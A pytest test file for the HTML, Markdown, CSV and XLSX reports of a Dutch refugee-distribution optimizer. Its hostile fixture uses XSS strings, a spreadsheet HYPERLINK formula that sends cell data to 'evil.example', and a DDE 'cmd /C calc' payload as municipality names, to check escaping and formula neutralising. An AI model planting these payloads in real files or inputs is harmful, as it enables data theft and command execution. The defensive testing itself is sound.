"""Reports: content in both languages, the load chart, diagnosis and sites, and hostile names
(escaped in HTML and Markdown, never a formula in CSV or XLSX, and still read back by check)."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import LIMBURG, SMALL

TRIGGERS = ("=", "+", "-", "@")
HOSTILE = {
    "A": ("<script>alert('x')</script>", "R<img src=x onerror=alert(1)>"),
    "=B": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "R<img src=x onerror=alert(1)>"),
    "+C": ("+1+1", "R<img src=x onerror=alert(1)>"),
    "-D": ("-2+3", "R<img src=x onerror=alert(1)>"),
    "@E": ("@SUM(1+1)*cmd|' /C calc'!A0", "R<img src=x onerror=alert(1)>"),
    "F": ("'s-Hertogenbosch | **bold** [link](http://x)", "R<img src=x onerror=alert(1)>"),
}


@pytest.fixture
def hostile(tmp_path) -> Path:
    d = tmp_path / "hostile"
    d.mkdir()
    (d / "instance.toml").write_text('name = "hostile <b>"\npool = "region"\n[groups.asylum]\n'
                                     '[groups.amv]\n[[exchange]]\nfrom = "amv"\nto = "asylum"\n'
                                     'rate = 1\n')
    with open(d / "municipalities.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["code", "name", "region", "population"])
        for code, (name, region) in HOSTILE.items():
            w.writerow([code, name, region, 10])
    with open(d / "targets.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["municipality", "group", "target"])
        for i, code in enumerate(HOSTILE):
            w.writerow([code, "asylum", 10 + i])
            w.writerow([code, "amv", 2])
    (d / "bounds.csv").write_text("municipality,group,min,max\nA,asylum,,5\n")
    return d


def solved(run_cli, instance: Path, out: Path, *extra: str) -> Path:
    result = run_cli("solve", instance, "--report", "--out", out, *extra)
    assert result.exit_code in (0, 1), result.output
    return out


def text_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_hostile_names_are_escaped_and_never_formulas(hostile, tmp_path, run_cli):
    out = solved(run_cli, hostile, tmp_path / "out")
    html = (out / "report.html").read_text()
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    md = (out / "report.md").read_text()
    assert not re.search(r"(?<!\\)[<>]", md), "an unescaped < or > in report.md"
    assert not re.search(r"(?<!\\)\]\(", md), "an unescaped link in report.md"
    assert r"\<script\>" in md
    # CSV: no text cell starts like a formula; every hostile name is there, quoted
    for name in ("proposal.csv", "exchanges.csv"):
        for cell in text_cells(out / name):
            assert not cell.startswith(TRIGGERS), (name, cell)
    cells = text_cells(out / "proposal.csv")
    assert "'" + HOSTILE["=B"][0] in cells and "'=B" in cells and "'-2+3" in cells
    assert HOSTILE["F"][0] in cells  # a leading quote alone is not a trigger: unchanged
    # ... and check reads the codes back exactly
    result = run_cli("check", hostile, out)
    assert result.exit_code == 0, result.output
    # XLSX: text cells, no formula anywhere, the names unchanged
    wb = openpyxl.load_workbook(out / "proposal.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                values.append(c.value)
    # people read names, not codes: the hostile names and regions are there, unchanged
    assert HOSTILE["=B"][0] in values and HOSTILE["@E"][0] in values
    assert HOSTILE["=B"][1] in values
    with zipfile.ZipFile(out / "proposal.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()


def test_compare_csv_is_safe_too(hostile, tmp_path, run_cli):
    out = tmp_path / "cmp"
    result = run_cli("compare", hostile, "--cap", "=B:asylum=5", "--out", out)
    assert result.exit_code == 0, result.output
    for name in ("compare.csv", "compare-regions.csv"):
        for cell in text_cells(out / name):
            assert not cell.startswith(TRIGGERS[:1] + TRIGGERS[3:]) or cell.lstrip("-").replace(
                ".", "").isdigit(), (name, cell)
    assert "'=B" in text_cells(out / "compare.csv")


@pytest.fixture(scope="module")
def limburg_venlo(tmp_path_factory) -> Path:
    from click.testing import CliRunner

    from lirt_opt.cli import main

    out = tmp_path_factory.mktemp("venlo") / "out"
    result = CliRunner().invoke(main, ["solve", str(LIMBURG), "--scenario",
                                       str(LIMBURG / "scenarios" / "venlo-large-site.toml"),
                                       "--report", "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def test_report_content_in_dutch_and_english(limburg_venlo, tmp_path, run_cli):
    html = (limburg_venlo / "report.html").read_text()
    assert '<html lang="nl">' in html and "Belasting per gemeente" in html
    # total task 5,662 + 1,263 + 5,684; Venlo's load 1,326 / 1,156 (worked out below)
    assert "12.609" in html and "1,147" in html
    assert "Venlo" in html and "Waarde van een plaats" in html and "lineaire relaxatie" in html
    result = run_cli("report", limburg_venlo, "--lang", "en", "--format", "all", "--out", tmp_path)
    assert result.exit_code == 0, result.output
    en = (tmp_path / "report.html").read_text()
    assert '<html lang="en">' in en and "Load per municipality" in en and "12,609" in en
    assert "1.147" in en and "linear relaxation" in en
    md = (tmp_path / "report.md").read_text()
    assert md.startswith("# Distribution proposal Limburg 2024") and "| Venlo |" in md
    wb = openpyxl.load_workbook(tmp_path / "proposal.xlsx")
    assert wb.sheetnames[:3] == ["Summary", "Loads", "Municipalities"]
    loads = wb["Loads"]
    assert loads.freeze_panes == "A2"
    assert loads["A2"].value == "Venlo" and isinstance(loads["C2"].value, float)
    # by hand: Venlo must host 750 asylum places (the scenario) and its existing Ukrainian
    # site of 521; no group may cover status holders, and Noord's other seven municipalities
    # have 270 status places in all (locations.csv) for Noord's task of 325, so Venlo hosts at
    # least 55; leximin gives it nothing more: 1,326 over its fair share 475 + 44 + 116 + 521
    assert loads["C2"].value == pytest.approx((750 + 521 + 325 - 270) / 1156)
    munis = wb["Municipalities"]
    assert all(isinstance(munis.cell(r, 3).value, int) for r in range(2, munis.max_row + 1))


IDS = ("GM0983", "ukraine", "asylum", "true", "false", "GM0983-1")  # ids a person must not read
LABELS = ("Oekraïense ontheemden", "Statushouders (vergunninghouders)", "Asielzoekers (regulier)",
          "illustratief: groot bestaand opvangcentrum, Venlo")


def test_labels_not_ids_in_the_dutch_reports(limburg_venlo):
    """Issue 10: group labels from instance.toml, site names from locations.csv and ja/nee in
    the Dutch HTML and Markdown reports and the workbook; no group ids, codes, site ids or
    true/false in what a person reads (HTML: the visible text, not attributes)."""
    html = (limburg_venlo / "report.html").read_text()
    visible = re.sub(r"<[^>]+>", " ", re.sub(r"<(style|script)[^>]*>.*?</\1>", " ", html,
                                             flags=re.S))
    md = (limburg_venlo / "report.md").read_text().replace("\\", "")
    wb = openpyxl.load_workbook(limburg_venlo / "proposal.xlsx")
    cells = " | ".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows()
                       for c in row if c.value is not None)
    for where, text in (("html", visible), ("md", md), ("xlsx", cells)):
        for label in LABELS:
            assert label in text, (where, label)
        assert " ja " in f" {text} ".replace("|", " ") or "| ja |" in text, where
        for ident in IDS:
            assert not re.search(rf"(?<![\w-]){re.escape(ident)}(?![\w-])", text), (where, ident)


def test_chart_has_one_bar_per_municipality_and_a_line_at_one(limburg_venlo):
    html = (limburg_venlo / "report.html").read_text()
    svg = re.search(r'<svg[^>]*id="load-chart".*?</svg>', html, re.S).group(0)
    bars = re.findall(r'<rect class="bar[^"]*" data-code="([^"]+)" x="([\d.]+)"[^>]*width="([\d.]+)"',
                      svg)
    assert len(bars) == 31 and len({b[0] for b in bars}) == 31
    assert bars[0][0] == "GM0983"  # Venlo carries the heaviest load: first
    line = re.search(r'<line class="ref-line" x1="([\d.]+)"', svg)
    x0 = float(bars[0][1])
    # the line at 1.0 sits where a bar of load 1.0 would end: bar widths are proportional
    loads = json.loads((limburg_venlo / "summary.json").read_text())["loads"]
    for code, _, width in bars:
        assert float(line.group(1)) == pytest.approx(x0 + float(width) / loads[code], abs=0.05)
    # nothing to fetch: no URL but the SVG namespace, no script, no external reference
    assert re.findall(r"https?://[^\s\"'<>]+", html) == ["http://www.w3.org/2000/svg"]
    assert "<script" not in html and " src=" not in html and "<link" not in html


def test_reports_are_deterministic(limburg_venlo, tmp_path, run_cli):
    for d in ("a", "b"):
        assert run_cli("report", limburg_venlo, "--format", "all", "--out", tmp_path / d).exit_code == 0
    for name in ("report.html", "report.md", "proposal.xlsx"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()


def test_infeasible_report_shows_the_diagnosis_generically(tmp_path, run_cli):
    out = solved(run_cli, SMALL / "short", tmp_path / "out")
    html = (out / "report.html").read_text()
    assert "Kleinste totale tekort: 5 taakeenheden" in html
    assert "Er is geen sluitend voorstel" in html
    # a diagnosis with more parts (as issue 4 adds): rendered without knowing them
    diag = json.loads((out / "diagnosis.json").read_text())
    diag["bottlenecks"] = [{"pool": "R", "group": "asylum", "text": "target 20, at most 15 <b>"}]
    diag["certificate"] = {"demand": 20, "supply": 15}
    (out / "diagnosis.json").write_text(json.dumps(diag))
    assert run_cli("report", out, "--format", "all").exit_code == 0
    html = (out / "report.html").read_text()
    assert "bottlenecks" in html and "target 20, at most 15 &lt;b&gt;" in html
    assert "certificate" in html and ">15<" in html
    assert "Pool" in html and "Tekort (plaatsen)" in html


def test_sites_are_rendered_when_present(tmp_path, run_cli):
    out = solved(run_cli, SMALL / "worked-example", tmp_path / "out")
    (out / "sites.csv").write_text("id,municipality,groups,status,opened,places,counts,reason\n"
                                   "S1,P1,asylum,existing,true,15,true,\n"
                                   "S2,P2,asylum,candidate,false,0,false,opens after the deadline\n")
    assert run_cli("report", out, "--format", "all", "--lang", "en").exit_code == 0
    html = (out / "report.html").read_text()
    assert "<h2>Sites</h2>" in html and "opens after the deadline" in html
    assert "Sites" in openpyxl.load_workbook(out / "proposal.xlsx").sheetnames


def test_solve_without_report_removes_a_stale_one(tmp_path, run_cli):
    out = solved(run_cli, SMALL / "worked-example", tmp_path / "out")
    assert (out / "report.html").is_file()
    assert run_cli("solve", SMALL / "worked-example", "--out", out).exit_code == 0
    assert not (out / "report.html").exists() and not (out / "proposal.xlsx").exists()


def test_report_of_a_missing_directory_exits_2(tmp_path, run_cli):
    result = run_cli("report", tmp_path / "nope")
    assert result.exit_code == 2 and "not found" in result.output
